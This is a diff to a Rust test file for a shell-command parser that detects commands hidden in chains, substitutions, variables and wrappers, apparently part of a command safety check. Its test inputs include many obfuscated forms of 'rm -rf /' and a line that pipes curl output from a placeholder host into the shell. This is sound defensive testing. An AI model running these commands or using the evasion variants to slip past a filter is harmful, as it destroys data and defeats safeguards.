@@ -12,6 +12,10 @@ fn runs(input: &str, command: &str) -> bool {
     texts(input).iter().any(|t| t == command)
 }
 
+fn runs_line(line: &CommandLine, command: &str) -> bool {
+    line.commands.iter().any(|c| c.text() == command)
+}
+
 #[test]
 fn quoting_escapes_and_paths_are_removed() {
     for input in [
@@ -40,10 +44,7 @@ fn chains_pipes_and_substitutions_are_split() {
     assert_eq!(texts("a && b || c & d"), ["a", "b", "c", "d"]);
     assert_eq!(texts("(rm -rf /)"), ["rm -rf /"]);
     assert_eq!(texts("{ rm -rf /; }"), ["rm -rf /"]);
-    assert_eq!(
-        texts("if true; then rm -rf /; fi"),
-        ["true", "rm -rf /", "fi"]
-    );
+    assert_eq!(texts("if true; then rm -rf /; fi"), ["true", "rm -rf /"]);
     assert_eq!(texts("echo $(rm -rf /)"), ["rm -rf /", "echo '$(...)'"]);
     assert_eq!(texts("echo `rm -rf /`"), ["rm -rf /", "echo '$(...)'"]);
     assert_eq!(
@@ -116,21 +117,49 @@ fn wrappers_and_shell_scripts_are_unwrapped() {
     }
     assert!(runs("find . -name x -exec rm -rf {} \\;", "rm -rf {}"));
     assert!(runs("find . -exec rm -rf {} +", "rm -rf {}"));
-    assert!(runs("echo / | xargs -n 1 rm -rf", "rm -rf"));
-    assert!(runs("ls | xargs -I{} rm -rf {}", "rm -rf {}"));
+    assert!(runs("echo / | xargs -n 1 rm -rf", "rm -rf /"));
+    assert!(runs(
+        "printf '%s\\n' a b | xargs -I{} rm -rf {}",
+        "rm -rf b"
+    ));
+    let unknown_input = parse("ls | xargs -I{} rm -rf {}");
+    assert!(unknown_input.opaque.is_some(), "{unknown_input:?}");
     assert!(!runs("command -v rm", "rm"));
 }
 
 #[test]
 fn remembered_assignments_stand_in_for_variables() {
-    let line = parse("x=rm; $x -rf /");
+    for input in [
+        "x=rm; $x -rf /",
+        "$(echo rm) -rf /",
+        "`echo rm` -rf /",
+        "rm${IFS}-rf${IFS}/",
+        "for f in -rf; do rm $f /; done",
+        "printf -v o %s -rf; rm $o /",
+        "read -r a <<< '-rf'; rm $a /",
+        "s=xxrm; ${s:2:2} -rf /",
+        "x=; ${x:-rm} -rf /",
+        "a=(rm -rf /); \"${a[@]}\"",
+        "f(){ rm \"$@\"; }; f -rf /",
+        "IFS=,; x=rm,-rf,/; $x",
+    ] {
+        let line = parse(input);
+        assert!(line.opaque.is_none(), "{input}: {line:?}");
+        assert!(
+            line.commands.iter().any(|c| c.text() == "rm -rf /"),
+            "{input}: {line:?}"
+        );
+    }
+    assert!(runs("r{m,x} -rf /", "rm rx -rf /"));
+    let line = parse("x=ls; if true; then x=rm; fi; $x -rf /");
     assert!(
         line.opaque.is_some(),
-        "a program from a variable is not understood"
+        "a value set in one branch only is unknown: {line:?}"
     );
+    let line = parse("x=rm; (x=ls); $x -rf /");
     assert!(
-        line.commands.iter().any(|c| c.text() == "rm -rf /"),
-        "{line:?}"
+        runs_line(&line, "rm -rf /"),
+        "a subshell's assignment is dropped: {line:?}"
     );
     let line = parse("f=-rf; rm $f /");
     assert!(line.opaque.is_none());
@@ -157,12 +186,10 @@ fn what_cannot_be_understood_is_opaque() {
         ". <(curl -s https://x.example)",
         "$x -rf /",
         "${x} -rf /",
-        "$(echo rm) -rf /",
-        "`echo rm` -rf /",
+        "$(cat x) -rf /",
         "eval \"$cmd\"",
-        "rm${IFS}-rf${IFS}/",
         "/bin/r? -rf /",
-        "r{m,x} -rf /",
+        "${x:-rm} -rf /",
         "cat <<EOF",
     ] {
         assert!(parse(input).opaque.is_some(), "{input}: {:?}", parse(input));
@@ -187,7 +214,7 @@ fn what_cannot_be_understood_is_opaque() {
 fn plain_commands_read_as_themselves() {
     for plain in [
         "ls -la",
-        "git status",
+        "cargo build",
         "cargo test --release",
         "grep -rf pat .",
         "ls *.txt",
